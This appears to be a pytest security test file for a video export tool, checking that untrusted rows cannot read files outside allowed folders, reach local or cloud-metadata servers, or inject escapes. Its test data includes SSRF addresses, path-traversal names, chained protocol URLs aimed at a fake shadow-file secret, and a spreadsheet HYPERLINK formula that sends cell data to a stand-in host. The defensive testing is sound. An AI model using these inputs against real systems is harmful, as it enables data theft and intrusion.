"""Rows of a stranger: what they name outside of what is allowed is neither read nor written, nor obeyed.

Each attack stands between good rows, which are exported all the same.
"""

from __future__ import annotations

import io
import json
import os
import socket
import sys
import tarfile
import threading

import pytest

from framescribe.export.run import export
from tests.cli.run import invoke
from tests.export.conftest import LAYOUTS, row, video
from tests.export.loaders import LOADERS

SECRET = b"root:$6$secret:19000:0:99999:7:::\n"
LTX = LAYOUTS["ltx"]


@pytest.fixture
def good(tmp_path):
    folder = tmp_path / "allowed"
    folder.mkdir()
    (folder / "good.mp4").write_bytes(video(1))
    return [row(1, folder / "good.mp4", "A cat.")]


def left_out(bad, good, tmp_path, name="ltx", **options):
    """Reasons for the bad rows; nothing but the good one was exported, and nothing written outside the target."""
    before = set(tmp_path.rglob("*"))
    report = export([*bad, *good], LAYOUTS[name], tmp_path / "set", **options)
    assert LOADERS[name](tmp_path / "set") == [(video(1), "A cat.")]
    exported = [path for path in (tmp_path / "set").rglob("*") if path.is_file()]
    assert not any(SECRET[:12] in path.read_bytes() for path in exported)
    assert all(path.is_relative_to(tmp_path / "set") for path in set(tmp_path.rglob("*")) - before)
    return [each.reason for each in report.left_out]


@pytest.mark.parametrize("link", ["copy", "symlink", "hardlink", "reference"])
@pytest.mark.parametrize("name", ["secret", "secret.mp4", "link.mp4"])
def test_what_is_no_video_is_not_exported(name, link, good, tmp_path):
    (tmp_path / "secret").write_bytes(SECRET)
    (tmp_path / "secret.mp4").write_bytes(SECRET)
    (tmp_path / "link.mp4").symlink_to(tmp_path / "secret")
    assert left_out([row(2, tmp_path / name, "x")], good, tmp_path, link=link) in (
        ["not a video file"],
        ["the clip's file cannot be read"],
    )


@pytest.mark.parametrize(
    "chain",
    [
        "file://{secret}::x.mp4",
        "reference://x.mp4::file://{secret}",
        "simplecache::file://{secret}#.mp4",
        "zip://x.mp4::file://{secret}",
        "filecache::http://127.0.0.1:{port}/x.mp4",
        "reference://x::http://127.0.0.1:{port}/leak.mp4",
        "{secret}.tar::x.mp4",
        "tar://x.mp4::{secret}",
        "github://owner:repo@/x.mp4",
        "ftp://127.0.0.1:{port}/x.mp4",
        "sftp://127.0.0.1:{port}/x.mp4",
        "dask://x.mp4",
    ],
)
def test_chains_of_protocols_are_not_read(chain, good, tmp_path, listener):
    (tmp_path / "secret").write_bytes(SECRET)
    source = chain.format(secret=tmp_path / "secret", port=listener.port)
    assert len(left_out([row(2, source, "x")], good, tmp_path)) == 1
    assert listener.asked == 0


@pytest.mark.parametrize(
    "host",
    [
        "127.0.0.1",
        "localhost",
        "[::1]",
        "127.1",
        "0x7f000001",
        "2130706433",
        "me@127.0.0.1",
        "[::ffff:127.0.0.1]",
    ],
)
def test_servers_of_this_machine_are_not_asked_unless_allowed(host, good, tmp_path, listener):
    source = f"http://{host}:{listener.port}/x.mp4"
    assert left_out([row(2, source, "x")], good, tmp_path) == ["from a place that is not allowed"]
    assert listener.asked == 0


@pytest.mark.parametrize(
    "address", ["10.0.0.1", "192.168.1.1", "172.16.0.1", "169.254.169.254", "[fd00::1]", "0.0.0.0"]
)
def test_private_networks_are_not_asked(address, good, tmp_path):
    source = f"http://{address}/latest/meta-data/x.mp4"
    assert left_out([row(2, source, "x")], good, tmp_path) == ["from a place that is not allowed"]


def test_a_server_that_is_allowed_is_asked(good, tmp_path, listener):
    source = f"http://127.0.0.1:{listener.port}/x.mp4"
    allowed = [f"http://127.0.0.1:{listener.port}/", str(tmp_path / "allowed")]
    assert left_out([row(2, source, "x")], good, tmp_path, sources=allowed) == [
        "the clip's file cannot be read"
    ]
    assert listener.asked > 0


@pytest.mark.parametrize(
    "name",
    ["outside.mp4", "allowed/../outside.mp4", "allowed/out.mp4", "allowed/folder/outside.mp4", "allowed-not/x.mp4"],
)  # fmt: skip
@pytest.mark.parametrize("prefix", ["", "file://"])
def test_files_outside_the_allowed_folders_are_not_read(name, prefix, good, tmp_path):
    for file in ("outside.mp4", "elsewhere/outside.mp4", "allowed-not/x.mp4"):
        (tmp_path / file).parent.mkdir(exist_ok=True)
        (tmp_path / file).write_bytes(video(2))
    (tmp_path / "allowed/out.mp4").symlink_to(tmp_path / "outside.mp4")
    (tmp_path / "allowed/folder").symlink_to(tmp_path / "elsewhere")
    bad = [row(2, f"{prefix}{tmp_path}/{name}", "x")]
    allowed = [str(tmp_path / "allowed")]
    assert left_out(bad, good, tmp_path, sources=allowed) == ["from a place that is not allowed"]
    assert export([*bad, *good], LTX, tmp_path / "all", overwrite=True).exported == 2


@pytest.mark.parametrize("way", ["..", "%2e%2e", "%2E.", "x/../.."])
def test_urls_outside_the_allowed_ones_are_not_read(way, good, tmp_path):
    bad = [row(2, f"s3://bucket/ok/{way}/secret/x.mp4", "x"), row(3, "s3://bucket/okay/x.mp4", "y")]
    allowed = [str(tmp_path / "allowed"), "s3://bucket/ok/"]
    assert left_out(bad, good, tmp_path, sources=allowed) == ["from a place that is not allowed"] * 2


def test_a_tar_outside_the_allowed_folders_is_not_read(good, tmp_path):
    with tarfile.open(tmp_path / "outside.tar", "w") as tar:
        member = tarfile.TarInfo("x.mp4")
        member.size = len(video(2))
        tar.addfile(member, io.BytesIO(video(2)))
    (tmp_path / "allowed/linked.tar").symlink_to(tmp_path / "outside.tar")
    bad = [
        row(2 + at, tmp_path / f"{tar}::x.mp4", "x")
        for at, tar in enumerate(("outside.tar", "allowed/linked.tar"))
    ]
    assert (
        left_out(bad, good, tmp_path, sources=[str(tmp_path / "allowed")])
        == ["from a place that is not allowed"] * 2
    )


@pytest.mark.parametrize("prefix", ["https://example.invalid/ok", "s3://bucket/ok", "http://[/", "ftp://x"])
def test_an_allowed_address_ends_in_a_slash(prefix, good, tmp_path):
    with pytest.raises(ValueError, match="must end in /"):
        export(good, LTX, tmp_path / "set", sources=[prefix.rstrip("/")])


def test_a_pipe_and_a_device_are_not_waited_for(good, tmp_path):
    os.mkfifo(tmp_path / "pipe.mp4")
    (tmp_path / "endless.mp4").symlink_to("/dev/zero")
    bad = [
        row(2, tmp_path / "pipe.mp4", "x"),
        row(3, tmp_path / "endless.mp4", "y"),
        row(4, "/dev/stdin", "z"),
    ]
    for link in ("copy", "symlink", "hardlink", "reference"):
        reasons = left_out(bad, good, tmp_path, link=link, overwrite=True)
        assert sorted(reasons) == ["not a video file", *["the clip's file cannot be read"] * 2]


@pytest.mark.parametrize(
    "playlist", ["#EXTM3U\n#EXTINF:1,\nfile://{0}\n", "ffconcat version 1.0\nfile '{0}'\n"]
)
def test_a_playlist_under_a_videos_name_leads_nowhere(playlist, good, tmp_path):
    (tmp_path / "other.mp4").write_bytes(video(2))
    (tmp_path / "list.mp4").write_text(playlist.format(tmp_path / "other.mp4"))
    assert left_out([row(2, tmp_path / "list.mp4", "x")], good, tmp_path) == [
        "the clip's file cannot be read"
    ]


@pytest.mark.parametrize(
    "name", ["a" * 10_000 + ".mp4", "a/" * 5_000 + "x.mp4", "\0.mp4", "~/x.mp4", "$HOME/x.mp4"]
)
def test_names_that_no_file_has_are_left_out(name, good, tmp_path):
    assert left_out([row(2, name, "x")], good, tmp_path) == ["the clip's file cannot be read"]


def test_long_ids_and_names_that_are_alike_after_cleaning_stay_apart(good, tmp_path):
    rows = []
    for at, name in enumerate(
        ("é.mp4", "è.mp4", "a b.mp4", "a-b.mp4", "a_b.mp4", f"{'x' * 200}.mp4", f"{'x' * 199}y.mp4")
    ):
        (tmp_path / name).write_bytes(video(10 + at))
        rows.append(row(10 + at, tmp_path / name, name, clip_id=f"{'id/' * 5_000}{at}"))
    for name, layout in LAYOUTS.items():
        report = export(rows, layout, tmp_path / "set", accepted_flags={"duplicate"}, overwrite=True)
        assert report.exported == len(rows)
        assert sorted(caption for _, caption in LOADERS[name](tmp_path / "set")) == sorted(
            row["caption"] for row in rows
        )


@pytest.mark.parametrize("target", ["videos", "labels", ".framescribe", "train"])
def test_ids_cannot_name_files_of_the_layout(target, good, tmp_path):
    bad = row(2, tmp_path / "allowed/good.mp4", "A dog.", clip_id=f"../{target}/../../x")
    for layout in LAYOUTS.values():
        export([*good, bad], layout, tmp_path / "set", overwrite=True)
        assert sorted(os.listdir(tmp_path)) == ["allowed", "set"]


def test_control_characters_of_names_and_captions_reach_neither_files_nor_terminal(good, tmp_path):
    evil = tmp_path / "evil\x1b[2J\n\r.mp4"
    evil.write_bytes(video(2, frames=100))
    missing = tmp_path / "gone\x1b]0;title\x07\n.mp4"
    rows = [
        *good,
        row(2, evil, "A dog.\nsecond line\u2028third"),
        row(5, evil, "A \x1b[31mred\x1b[0m\x07 dog."),
        row(3, missing, "x"),
    ]
    (tmp_path / "rows.jsonl").write_text("".join(json.dumps(each) + "\n" for each in rows))
    for name in LAYOUTS:
        result = invoke(
            "export", tmp_path / "rows.jsonl", "--to", name, "-t", tmp_path / "set", "--overwrite"
        )
        assert result.exit_code == 0, result.stderr
        assert not {"\x1b", "\x07", "\x00", "\r"} & set(result.stdout + result.stderr)
        for _, caption in LOADERS[name](tmp_path / "set"):
            assert not {"\x1b", "\x07", "\x00", "\r", "\n", "\u2028"} & set(caption)
        texts = [
            path
            for path in (tmp_path / "set").rglob("*")
            if path.suffix in (".txt", ".csv", ".jsonl", ".json")
        ]
        assert not any(b"\x1b" in path.read_bytes() for path in texts)


FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "=1+1", "\t=1+1"]


@pytest.mark.parametrize("name", LAYOUTS)
def test_captions_that_a_spreadsheet_would_run_reach_the_trainer_as_they_are_and_are_said(
    name, good, tmp_path
):
    rows = [row(2 + at, good[0]["source_video"], caption) for at, caption in enumerate(FORMULAS)]
    report = export([*good, *rows], LAYOUTS[name], tmp_path / "set", accepted_flags={"duplicate"})
    assert sorted({caption for _, caption in LOADERS[name](tmp_path / "set")}) == sorted(
        {"A cat.", *(" ".join(caption.split()) for caption in FORMULAS)}
    )
    assert report.formulas == len(FORMULAS)


class Listener:
    """A server on this machine that counts who asks."""

    def __init__(self) -> None:
        self.asked = 0
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            self.asked += 1
            with connection:
                connection.recv(4096)
                connection.sendall(b"HTTP/1.0 404 no\r\nContent-Length: 0\r\n\r\n")

    def close(self) -> None:
        if sys.platform == "linux":
            self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()


@pytest.fixture
def listener():
    server = Listener()
    yield server
    server.close()
